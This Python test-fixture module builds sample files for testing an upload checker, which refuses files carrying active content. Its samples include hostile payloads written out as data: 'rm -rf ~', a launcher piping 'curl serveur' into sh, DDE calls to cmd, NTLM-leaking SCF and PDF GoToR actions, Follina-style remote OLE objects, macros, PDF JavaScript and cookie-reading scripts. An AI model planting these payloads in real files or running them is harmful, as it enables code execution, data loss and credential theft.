"""Real files of every kind the file checker (``core.files``) accepts or refuses, made in memory.

Each builder returns the bytes a real program would write: a PDF and an ODT from
``cresi.documents``, OOXML packages, a legacy Word file in Microsoft's compound file format (CFB),
PNG, JPEG and WebP images, a Linux executable (the system's own ``true`` when there is one), a
Windows PE header, HTML and SVG with scripts, ZIP archives.
"""

import io
import shutil
import struct
import zipfile
import zlib

from cresi.documents import csv_document, odt_document, pdf_document

ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
SECTOR = 512


def pdf():
    return pdf_document("Guide du CRESI", ["Un guide pour les associations."])


def odt():
    return odt_document("Convention de partenariat", ["Article 1 – Objet."])


def csv():
    return csv_document([["Poste", "Montant"], ["Voyages", "1200"]])


def text():
    return "Liste des pièces à fournir\n- statuts\n- budget\n".encode()


# A fixed time in every member: the same sample is the same bytes whenever it is made (a member
# written with the clock's time made two calls a second apart differ).
MEMBER_TIME = (2026, 1, 1, 0, 0, 0)


def _zip(members, *, first_stored=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first_stored:
            name, data = first_stored
            archive.writestr(zipfile.ZipInfo(name, MEMBER_TIME), data, zipfile.ZIP_STORED)
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, MEMBER_TIME), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def ooxml(kind="docx", extra=None):
    folder, part = {
        "docx": ("word", "document.xml"),
        "xlsx": ("xl", "workbook.xml"),
        "pptx": ("ppt", "presentation.xml"),
    }[kind]
    content_type = {
        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "pptx": (
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
        ),
    }[kind]
    members = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{folder}/{part}" ContentType="{content_type}"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/officeDocument" Target="{folder}/{part}"/></Relationships>'
        ),
        f"{folder}/{part}": '<?xml version="1.0" encoding="UTF-8"?><document/>',
        **(extra or {}),
    }
    return _zip(members)


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationships(*entries):
    """A ``.rels`` part: ``entries`` are (type, target, target mode or ``None``)."""
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for number, (kind, target, mode) in enumerate(entries, start=100)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rows}</Relationships>"
    )


def docx_with_relationships(*entries, part="word/_rels/document.xml.rels"):
    """A Word document whose ``part`` holds ``entries`` (see :func:`relationships`)."""
    return ooxml("docx", {part: relationships(*entries)})


# Word fetches the template its settings name when the document opens, and runs its macros
# (« remote template injection »).
REMOTE_TEMPLATE = ("attachedTemplate", "https://serveur.example/modele.dotm", "External")
# An OLE object Word loads from an address (« Follina », CVE-2022-30190, used mhtml: so).
REMOTE_OLE_OBJECT = ("oleObject", "mhtml:https://serveur.example/page.html!x-usc:x", "External")
# An image linked, not embedded: fetched from a share at opening, with the user's credentials.
LINKED_IMAGE = ("image", "file://serveur/partage/logo.png", "External")
# A web page in a frame of the document.
REMOTE_FRAME = ("frame", "https://serveur.example/cadre.html", "External")
# A link the reader may click: allowed.
HYPERLINK = ("hyperlink", "https://www.essonne.fr/", "External")


def odf_content(body):
    """An OpenDocument spreadsheet's ``content.xml`` holding ``body`` in its spreadsheet."""
    namespaces = " ".join(
        f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for prefix, name in [
            ("office", "office"),
            ("table", "table"),
            ("text", "text"),
            ("draw", "drawing"),
            ("script", "script"),
            ("presentation", "presentation"),
            ("meta", "meta"),
        ]
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<office:document-content {namespaces} xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'office:version="1.3"><office:body><office:spreadsheet>{body}</office:spreadsheet>'
        "</office:body></office:document-content>"
    )


def ods(body="", *, extra=None):
    """An OpenDocument spreadsheet whose content holds ``body``, with ``extra`` members."""
    mimetype = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    members = {"META-INF/manifest.xml": manifest, "content.xml": odf_content(body)}
    return _zip({**members, **(extra or {})}, first_stored=("mimetype", mimetype))


def cell(inner):
    return f"<table:table><table:table-row><table:table-cell>{inner}</table:table-cell>" + (
        "</table:table-row></table:table>"
    )


# Content an OpenDocument fetches or runs outside itself when it opens: (what, content.xml).
ODF_FETCHING = {
    # A sheet linked to another file, read again at opening.
    "linked sheet": (
        '<table:table table:name="T"><table:table-source xlink:type="simple" '
        'xlink:href="https://serveur.example/donnees.ods" table:mode="copy-all"/></table:table>'
    ),
    # An image linked from a share (LibreOffice loads it: CVE-2018-10583).
    "linked image": cell(
        '<draw:frame><draw:image xlink:type="simple" xlink:actuate="onLoad" '
        'xlink:href="file://serveur/partage/logo.png"/></draw:frame>'
    ),
    "linked object": cell(
        '<draw:frame><draw:object xlink:href="https://serveur.example/objet.ods"/></draw:frame>'
    ),
    # A section of text read from another document.
    "linked section": cell(
        '<text:section text:name="S"><text:section-source xlink:href="../../secret.odt"/>'
        "</text:section>"
    ),
    # The address escaped, with another prefix for the XLink namespace.
    "escaped address": cell(
        '<draw:frame><draw:image xmlns:l="http://www.w3.org/1999/xlink" '
        'l:href="&#x68;ttps://serveur.example/pixel.png"/></draw:frame>'
    ),
}
# Content that runs a program or a macro: (what, content.xml, words of the refusal).
ODF_RUNNING = {
    "DDE link": (
        '<table:table table:name="T"><office:dde-source office:dde-application="cmd" '
        'office:dde-topic="/c calc" office:dde-item="A1"/></table:table>',
        "DDE",
    ),
    "macro on opening": (
        '<office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Tools.Misc.Run?language=Basic&amp;location=application"/>'
        "</office:event-listeners>",
        "macros",
    ),
    "macro in a link": (
        cell(
            '<text:p><text:a xlink:href="vnd.sun.star.script:x.py$run?location=share">x'
            "</text:a></text:p>"
        ),
        "macros",
    ),
    "button running a program": (
        '<presentation:event-listener script:event-name="dom:click" presentation:action="execute" '
        'xlink:href="file:///C:/Windows/System32/calc.exe"/>',
        "lance un programme",
    ),
}
# Links that are only followed on a click, and pictures inside the package: allowed.
ODF_ALLOWED = cell(
    '<text:p><text:a xlink:type="simple" xlink:href="https://www.essonne.fr/">Essonne</text:a>'
    '</text:p><draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame>'
    '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
    '<draw:a xlink:href="https://www.essonne.fr/"><draw:frame/></draw:a>'
)


def _dir_entry(name, kind, *, child=NOSTREAM, right=NOSTREAM, start=ENDOFCHAIN, size=0):
    encoded = (name + "\x00").encode("utf-16-le") if name else b""
    return (
        encoded.ljust(64, b"\x00")
        + struct.pack("<HBB", len(encoded), kind, 1)
        + struct.pack("<III", NOSTREAM, right, child)
        + b"\x00" * 16  # CLSID
        + b"\x00" * 4  # state bits
        + b"\x00" * 16  # creation and modification times
        + struct.pack("<IQ", start, size)
    )


def compound_file(streams, storages=()):
    """A CFB (OLE2) file version 3 holding ``streams`` ({name: bytes ≥ 4096}) and empty storages.

    Streams of 4096 bytes or more live in regular sectors, so no mini stream is needed.
    """
    names = list(streams) + list(storages)
    assert len(names) <= 3
    data_sectors, chains, next_sector = [], [], 2
    for name in streams:
        data = streams[name].ljust(4096, b"\x00")
        size = len(data)
        data += b"\x00" * (-len(data) % SECTOR)
        count = len(data) // SECTOR
        chains.append((next_sector, count, size))
        data_sectors.append(data)
        next_sector += count

    fat = [FATSECT, ENDOFCHAIN]
    for start, count, _size in chains:
        fat += [start + i + 1 for i in range(count - 1)] + [ENDOFCHAIN]
    fat += [FREESECT] * (128 - len(fat))

    entries = [_dir_entry("Root Entry", 5, child=1 if names else NOSTREAM)]
    for index, name in enumerate(names, start=1):
        right = index + 1 if index < len(names) else NOSTREAM
        if name in streams:
            start, _count, size = chains[index - 1]
            entries.append(_dir_entry(name, 2, right=right, start=start, size=size))
        else:
            entries.append(_dir_entry(name, 1, right=right))
    while len(entries) < 4:
        entries.append(_dir_entry("", 0))

    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
        + struct.pack("<109I", 0, *([FREESECT] * 108))
    )
    assert len(header) == SECTOR
    return header + struct.pack("<128I", *fat) + b"".join(entries) + b"".join(data_sectors)


def word_97():
    return compound_file({"WordDocument": b"\xec\xa5" + b"Texte du document" * 100})


def word_97_with_macros():
    return compound_file({"WordDocument": b"\xec\xa5" + b"x" * 4000}, storages=["Macros"])


def msi_installer():
    return compound_file({"\x05SummaryInformation": b"\xfe\xff" + b"\x00" * 4000})


def png(width=2, height=2):
    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    rows = b"".join(b"\x00" + b"\x00\x56\x6b" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


# A 1×1 baseline JPEG (JFIF).
JPEG_1X1 = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300080606070605080707070909080a0c140d0c0b0b"
    "0c1912130f141d1a1f1e1d1a1c1c20242e2720222c231c1c2837292c30313434341f27393d38323c2e333432"
    "ffc0000b080001000101011100ffc4001f0000010501010101010100000000000000000102030405060708090a"
    "0bffc400b5100002010303020403050504040000017d01020300041105122131410613516107227114328191"
    "a1082342b1c11552d1f02433627282090a161718191a25262728292a3435363738393a434445464748494a53"
    "5455565758595a636465666768696a737475767778797a838485868788898a92939495969798999aa2a3a4a5"
    "a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7e8e9eaf1f2"
    "f3f4f5f6f7f8f9faffda0008010100003f00fbd3ffd9"
)

# A 1×1 lossless WebP.
WEBP_1X1 = bytes.fromhex("524946461a000000574542505650384c0d0000002f0000001007101111888808fe0700")


def elf_executable():
    """The system's own ``true`` program (an ELF executable), or an ELF header if there is none."""
    path = shutil.which("true")
    if path:
        with open(path, "rb") as program:
            data = program.read()
        if data.startswith(b"\x7fELF"):
            return data
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def pe_executable():
    """A Windows program's headers: MZ stub pointing at a PE signature and COFF header."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56)
    dos[0x3C:0x40] = struct.pack("<I", 0x40)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    return bytes(dos) + coff + b"\x00" * 400


def macho_executable():
    return b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100


def shell_script():
    return b"#!/bin/sh\nrm -rf ~\n"


def html_page():
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def svg_with_script():
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def zip_holding(name, data):
    return _zip({"lisez-moi.txt": b"Kit d'animation", name: data})


def zip_kit():
    return _zip({"affiche.pdf": pdf(), "programme.odt": odt(), "logo.png": png()})


def zip_with_symlink(name, target):
    """A kit whose member ``name`` is a symbolic link to ``target``, as ``zip --symlinks`` on
    Linux or macOS stores one: its data is the target's path, its Unix mode says « link »."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("affiche.pdf", MEMBER_TIME), pdf())
        link = zipfile.ZipInfo(name, MEMBER_TIME)
        link.create_system = 3  # Unix
        link.external_attr = (0o120777 << 16) | 0x20
        archive.writestr(link, target)
    return out.getvalue()


# Files of text, accepted as such by their content, that a computer does not open as text once
# unpacked: their name makes them shortcuts, commands, queries or scripts.
NAMED_TO_RUN = {
    # Opens the address, here a program on a network share (Windows).
    "site.url": b"[InternetShortcut]\r\nURL=file://serveur/partage/facture.exe\r\n",
    # Explorer loads its icon from the share as soon as the folder is shown, sending the
    # user's credentials (NTLM hash) to that server.
    "dossier.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\serveur\\partage\\icone.ico\r\n",
    # A Linux desktop launcher: double-clicked, it runs its command.
    "programme.desktop": (
        b"[Desktop Entry]\nType=Application\nName=Programme\nExec=sh -c 'curl serveur | sh'\n"
    ),
    # An Excel web query: Excel fetches the address and shows what it returns.
    "budget.iqy": b"WEB\r\n1\r\nhttps://serveur.example/requete\r\n",
    # A SYLK spreadsheet: Excel computes its formulas, here a DDE call that starts a program.
    "budget.slk": b"ID;P\r\nC;Y1;X1;K0;E=cmd|'/c calc'!A0\r\nE\r\n",
    # A Python script, run by a double-click where Python is installed.
    "outil.py": b"import os\nos.system('calc')\n",
}


def pdf_with_javascript():
    return pdf().replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    )


def latin1_text():
    return "Pièces à fournir".encode("latin-1")


# PDF 1.5 files whose objects are compressed in an object stream (``/Type /ObjStm``), listed by a
# cross-reference stream, as Acrobat, LibreOffice or qpdf write them.

PAGE_OBJECTS = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"
    ),
    5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
}
PAGE_CONTENT = b"BT /F1 18 Tf 56 780 Td (Guide du CRESI) Tj ET"


def pdf_15(
    objects,
    streams=None,
    *,
    packed=(),
    objstm_dictionary=b"/Filter /FlateDecode",
    encode=zlib.compress,
):
    """A PDF 1.5: ``objects`` ({number: body}) are written in the file, except those ``packed``
    in one object stream, whose data is ``encode``d and described by ``objstm_dictionary``;
    ``streams`` ({number: (dictionary entries, encoded data)}) are stream objects."""
    streams = streams or {}
    packed = sorted(packed)
    size = max([*objects, *streams]) + 3
    objstm_number, xref_number = size - 2, size - 1
    index, body = [], b""
    for number in packed:
        index.append(b"%d %d" % (number, len(body)))
        body += objects[number] + b"\n"
    header = b" ".join(index) + b"\n"
    encoded = encode(header + body)

    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    entries = {0: (0, 0, 65535)}

    def write(number, text):
        entries[number] = (1, out.tell(), 0)
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, text))

    def stream(dictionary, data):
        return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)

    for number, text in objects.items():
        if number not in packed:
            write(number, text)
    for number, (dictionary, data) in streams.items():
        write(number, stream(dictionary, data))
    if packed:
        objstm = b"/Type /ObjStm /N %d /First %d %s" % (len(packed), len(header), objstm_dictionary)
        write(objstm_number, stream(objstm, encoded))
        for position, number in enumerate(packed):
            entries[number] = (2, objstm_number, position)
    xref = out.tell()
    entries[xref_number] = (1, xref, 0)
    rows = b"".join(struct.pack(">BIH", *entries.get(n, (0, 0, 0))) for n in range(size))
    xref_dictionary = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % size
    write(xref_number, stream(xref_dictionary, zlib.compress(rows)))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def compressed_pdf(catalog=b"", *, annotation=None, streams=None, **options):
    """A one-page PDF whose catalog, pages, page and font are in a Flate object stream;
    ``catalog`` adds entries to the catalog (an ``/OpenAction``…), ``annotation`` (a
    dictionary) is put on the page, packed too."""
    objects = {**PAGE_OBJECTS, 1: b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog}
    packed = {1, 2, 3, 5}
    if annotation:
        objects[3] = objects[3].replace(b"/Contents", b"/Annots [6 0 R] /Contents")
        objects[6] = annotation
        packed.add(6)
    content = {4: (b"/Filter /FlateDecode", zlib.compress(PAGE_CONTENT))}
    return pdf_15(objects, {**content, **(streams or {})}, packed=packed, **options)


OPEN_JAVASCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "


def incremental_update(pdf_data, objects, *, root=1):
    """``pdf_data`` (a PDF 1.4 with a classic cross-reference table) followed by an incremental
    update: ``objects`` ({number: body}) written again or added, as a PDF editor saves."""
    out = io.BytesIO(pdf_data)
    out.seek(0, io.SEEK_END)
    offsets = {}
    for number, body in objects.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n")
    for number, offset in sorted(offsets.items()):
        out.write(b"%d 1\n%010d 00000 n \n" % (number, offset))
    previous = int(pdf_data.rsplit(b"startxref", 1)[1].split()[0])
    size = max(max(offsets) + 1, int(pdf_data.rsplit(b"/Size", 1)[1].split()[0]))
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, root, previous, xref)
    )
    return out.getvalue()


# Active content a PDF reader runs or fetches, that the checker once let through: each is what
# an attacker writes, in a real PDF.

# JavaScript in a multimedia (« Rendition ») action: ``/JS`` without the word « JavaScript ».
OPEN_RENDITION_JAVASCRIPT = b"/OpenAction << /S /Rendition /OP 4 /JS (app.alert(1)) >> "
# An XFA form: XML whose <script> elements Acrobat runs.
XFA_FORM = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="f">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b"app.alert(1)</script></event></subform></template></xdp:xdp>"
)
# Flash, video or 3D played by the reader.
RICH_MEDIA_ANNOTATION = (
    b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] "
    b"/RichMediaContent << /Assets << /Names [(a.swf) << /Type /Filespec /F (a.swf) >>] >> >> >>"
)
# A file attached to a page, whose embedded stream omits its optional ``/Type /EmbeddedFile``.
ATTACHMENT_ANNOTATION = (
    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /Name /PushPin "
    b"/FS << /Type /Filespec /F (facture.exe) /EF << /F 9 0 R >> >> >>"
)
# Opening a file on a network share when the document opens: Windows sends the user's
# credentials (NTLM hash) to that server (« BadPDF »).
OPEN_REMOTE_FILE = (
    b"/OpenAction << /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\x.pdf) /D [0 /Fit] >> "
)
# A link to a web page: allowed.
LINK_ANNOTATION = (
    b"<< /Type /Annot /Subtype /Link /Rect [56 770 300 790] /Border [0 0 0] "
    b"/A << /S /URI /URI (https://www.essonne.fr/) >> >>"
)


# Every kind accepted: (upload name, sample, kind code, content type served).
ACCEPTED = [
    ("guide.pdf", pdf, "pdf", "application/pdf"),
    ("convention.odt", odt, "odt", "application/vnd.oasis.opendocument.text"),
    (
        "convention.docx",
        lambda: ooxml("docx"),
        "docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    (
        "budget.xlsx",
        lambda: ooxml("xlsx"),
        "xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    (
        "diaporama.pptx",
        lambda: ooxml("pptx"),
        "pptx",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    ("ancien.doc", word_97, "doc", "application/msword"),
    ("budget.csv", csv, "csv", "text/csv; charset=utf-8"),
    ("pieces.txt", text, "txt", "text/plain; charset=utf-8"),
    ("affiche.png", png, "png", "image/png"),
    ("photo.jpg", lambda: JPEG_1X1, "jpeg", "image/jpeg"),
    ("photo.webp", lambda: WEBP_1X1, "webp", "image/webp"),
    ("kit.zip", zip_kit, "zip", "application/zip"),
]
